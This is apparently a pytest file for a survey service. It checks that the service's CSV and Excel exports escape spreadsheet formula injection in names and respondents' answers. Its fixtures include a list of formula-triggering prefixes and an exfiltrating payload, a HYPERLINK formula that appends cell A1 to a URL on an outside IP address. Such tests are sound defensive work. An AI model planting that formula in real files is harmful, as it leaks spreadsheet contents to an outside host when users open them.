"""No spreadsheet runs what a respondent or a colleague wrote, in any file that this service writes."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update
from typer.testing import CliRunner

from survey_service.commands import app
from survey_service.database import Database
from survey_service.models import Account, Area, Wave
from survey_service.tabular.harmless import as_meant, harmless
from tests.service.paper_batches import issue
from tests.service.signed_in import HTML, csrf, get, sign_in
from tests.service.test_keying import COMPLETE, HERE
from tests.service.test_verification import Key, key, people
from tests.service.world import World

__all__ = ["key", "people"]
RUN = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)")
EVIL = '=HYPERLINK("http://198.51.100.1/"&A1,"看")'
NUMBERS = ("-1", "-0.5", "+3.25", "-1e-05", "-.5", "0", "12")
BEGINS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def running(cells: Iterable[object]) -> list[object]:
    """Cells that a spreadsheet would run: what begins like a formula and is no number."""
    return [cell for cell in cells if BEGINS.match(str(cell)) and not NUMBER.fullmatch(str(cell))]


def cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in line]


@pytest.mark.parametrize("text", [*RUN, EVIL])
def test_what_would_run_is_marked_and_comes_back(text: str) -> None:
    assert running([text]), "the test is blind"
    assert harmless(text) == f"'{text}"
    assert as_meant(str(harmless(text))) == text


@pytest.mark.parametrize("value", [*NUMBERS, -1, -0.5, "满意", "", "'引号", "1=1", None])
def test_numbers_stay_numbers_and_words_words(value: object) -> None:
    assert harmless(value) == ("" if value is None else value)
    assert as_meant(str(value)) == str(value)


def test_the_tables_of_areas(client: TestClient, world: World, database: Database) -> None:
    """Names of areas, whoever gave them; what was downloaded comes back as it is."""
    with database.writing.begin() as session:
        session.execute(update(Area).where(Area.id == world.community_ids[0]).values(name_zh=EVIL, name_en="@evil"))
        session.execute(update(Area).where(Area.id == world.community_ids[1]).values(name_zh="－减社区", name_en="+x"))
    sign_in(client, "administrator")
    for what in ("tree", "people"):
        table = get(client, f"/areas/imports/{what}/present.csv")
        assert not running(cells(table))
    table = client.get("/areas/imports/tree/present.csv").content
    assert f"'{EVIL}" in cells(table.decode())
    sent = {"csrf": csrf(get(client, "/account"))}
    again = client.post("/areas/imports/tree", data=sent, files={"file": ("tree.csv", table)}, headers=HTML)
    assert "4 个地区和系统里的一样" in again.text


def test_the_workbook_of_keying(client: TestClient, world: World, database: Database, key: Key) -> None:
    """Names of people, surveys and areas: text in every cell, figures in theirs."""
    printed = issue(database, world, forms=1)
    key("keyer", printed.serials[0], {**COMPLETE, "seconds": "60", "keystrokes": "20"})
    with database.writing.begin() as session:
        session.execute(update(Account).values(name=EVIL))
        session.execute(update(Area).values(name_zh="@SUM(A1)"))
        session.execute(update(Wave).values(name_zh="+1+1"))
    sign_in(client, "manager")
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{HERE}/quality.xlsx?lang=zh").content))
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {EVIL, "@SUM(A1)", "+1+1"} <= {cell.value for cell in found}
    assert {cell.data_type for cell in found} <= {"s", "n"}  # no formula, no error, no link
    assert not [cell for cell in found if cell.hyperlink]
    assert [cell for cell in found if cell.data_type == "n"]


# ------------------------------------------------------------------ what the commands write


@pytest.fixture
def poisoned_file(tmp_path: Path) -> Path:
    """Answers whose labels would run; one column of negative numbers."""
    rows = [
        {
            "community": RUN[number % len(RUN)].strip() if number % 3 else EVIL,
            "satisfied": number % 2,
            "weight": 1,
            "balance": -number / 2,
            "said": EVIL,
            "result": "1.1" if number % 2 else "2.1",
            "mode": "in_person",
        }
        for number in range(60)
    ]
    path = tmp_path / "answers.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


COMMANDS = {
    "estimate": ("--weight", "weight", "--proportion", "satisfied=1", "--mean", "balance", "--by", "community"),
    "rates": ("--code", "result", "--mode", "in_person", "--by", "community"),
}


@pytest.mark.parametrize("command", COMMANDS)
def test_the_tables_of_the_commands(poisoned_file: Path, command: str, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    made = CliRunner().invoke(
        app, [command, str(poisoned_file), *COMMANDS[command], "--format", "csv", "--out", str(out)]
    )
    text = out.read_text(encoding="utf-8") if out.exists() else made.stdout
    assert made.exit_code == 0, made.output
    assert not running(cells(text))
    assert f"'{EVIL}" in cells(text)


def test_the_file_of_weights(poisoned_file: Path, tmp_path: Path) -> None:
    """The rows of the file as they came stand beside the weights: what respondents wrote is text, -0.5 a number."""
    out = tmp_path / "weights.csv"
    margins = tmp_path / "margins.csv"
    margins.write_text("variable,category,total\nsatisfied,0,70\nsatisfied,1,50\n", encoding="utf-8")
    call: list[Any] = ["weight", poisoned_file, "--design-weight", "weight", "--margins", margins, "--out", out]
    made = CliRunner().invoke(app, [str(one) for one in call])
    assert made.exit_code == 0, made.output
    found = cells(out.read_text(encoding="utf-8-sig"))
    assert not running(found)
    assert f"'{EVIL}" in found
    assert "-0.5" in found
    assert pd.read_csv(out)["balance"].sum() == -sum(range(60)) / 2
